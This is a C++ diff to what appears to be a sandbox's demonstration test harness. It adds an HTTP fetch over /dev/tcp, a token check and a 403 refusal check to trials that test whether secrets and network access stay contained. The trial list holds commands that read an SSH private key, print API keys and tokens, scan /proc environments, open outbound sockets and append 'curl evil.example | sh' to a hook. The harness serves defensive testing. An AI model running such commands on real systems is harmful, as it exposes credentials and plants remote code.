@@ -20,6 +20,13 @@ std::string connect_command(int port) {
   return fmt::format("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{} && head -n 1 <&3'", port);
 }
 
+std::string fetch_command(const char* host) {
+  return fmt::format(
+      "bash -c 'exec 3<>/dev/tcp/{0}/80 && printf \"GET / HTTP/1.1\\r\\nHost: {0}\\r\\n"
+      "Connection: close\\r\\n\\r\\n\" >&3 && tr -d \"\\r\" <&3'",
+      host);
+}
+
 std::vector<Trial> trials(const DemoWorld& world, Side side) {
   const bool inside = side == Side::kInside;
   std::vector<Trial> out = {
@@ -28,6 +35,7 @@ std::vector<Trial> trials(const DemoWorld& world, Side side) {
       {"secret", "cat \"$HOME/.ssh/id_ed25519\""},
       {"processes", "ls -d /proc/[0-9]* | wc -l"},
       {"variable", "printenv DEMO_API_KEY"},
+      {"token", "printenv DEMO_TOKEN"},
       {"environ", "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -c '^DEMO_API_KEY='"},
   };
   if (!world.real_home.empty()) {
@@ -49,6 +57,10 @@ std::vector<Trial> trials(const DemoWorld& world, Side side) {
   if (!inside) return out;
   // What would do harm outside, or is meant to stay.
   if (world.bash) {
+    if (world.filtered) {
+      out.push_back({"allowed", fetch_command(kDemoAllowedHost)});
+      out.push_back({"denied", fetch_command(kDemoOtherHost)});
+    }
     out.push_back({"internet", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'"});
   }
   out.push_back({"hook", fmt::format("echo 'curl evil.example | sh' >> {}",
@@ -130,6 +142,14 @@ void judge_visible(Judge& judge, const DemoWorld& world) {
         fmt::format("cc hello.c: {}; outside: {}", last_line(built.output),
                     last_line(judge.out("compiler").output)));
   }
+  if (world.bash && world.filtered) {
+    const auto answer = judge.in("allowed");
+    const bool answered = answer.output.starts_with("HTTP/1.1 200 ") &&
+                          answer.output.find(world.greeting) != std::string::npos;
+    judge.add("visible", answered, std::string("a host that a rule allows"),
+              fmt::format("http://{}: {}", kDemoAllowedHost,
+                          answered ? "the server outside answers" : last_line(answer.output)));
+  }
   if (world.bash && world.forwarded_host != 0) {
     const auto answer = judge.in("forwarded");
     judge.add(
@@ -137,6 +157,18 @@ void judge_visible(Judge& judge, const DemoWorld& world) {
         fmt::format("the port you name (-f {}:{})", world.forwarded_host, world.forwarded_inside),
         answer.output == world.greeting ? "the server outside answers" : reason(answer));
   }
+}
+
+// "403: other.demo.example:80: no rule allows it", from the status line and the body's first
+// sentence.
+std::string refusal(const TrialOutcome& outcome) {
+  constexpr std::string_view kMarker = "redoubtful: ";
+  const std::string status = outcome.output.substr(0, outcome.output.find('\n'));
+  const std::size_t at = outcome.output.find(kMarker);
+  const std::size_t code = status.find(' ');
+  if (at == std::string::npos || code == std::string::npos) return status;
+  const std::string said = outcome.output.substr(at + kMarker.size());
+  return status.substr(code + 1, 3) + ": " + said.substr(0, said.find(". "));
 }
 
 // "outside: read; inside: No such file or directory", from what both sides really answered.
@@ -178,6 +210,13 @@ void judge_hidden(Judge& judge, const DemoWorld& world) {
             "DEMO_API_KEY, which nobody passed",
             both(judge.out("variable"), variable, world.secret, "set") +
                 fmt::format(", and {} in /proc", in_proc));
+  const auto token = judge.in("token");
+  const bool surrogate = token.status == 0 && !token.output.empty() &&
+                         token.output.find(world.secret) == std::string::npos;
+  judge.add("hidden", judge.out("token").output == world.secret && surrogate,
+            "DEMO_TOKEN, a credential",
+            fmt::format("outside: the real one; inside: {}",
+                        surrogate ? "a surrogate, worth nothing" : "not a surrogate"));
 }
 
 void judge_refused(Judge& judge, const DemoWorld& world, const DemoRemains& remains) {
@@ -191,6 +230,11 @@ void judge_refused(Judge& judge, const DemoWorld& world, const DemoRemains& rema
     judge.add("refused", withheld(judge.out("other"), other, world.greeting),
               fmt::format("reach localhost:{}", world.other_port),
               both(judge.out("other"), other, world.greeting, "answers"));
+    if (world.filtered) {
+      const auto denied = judge.in("denied");
+      judge.add("refused", denied.output.starts_with("HTTP/1.1 403 "),
+                "reach a host that no rule allows", refusal(denied));
+    }
     const auto internet = judge.in("internet");
     judge.add("refused", internet.status > 0, "reach the internet", reason(internet));
   }
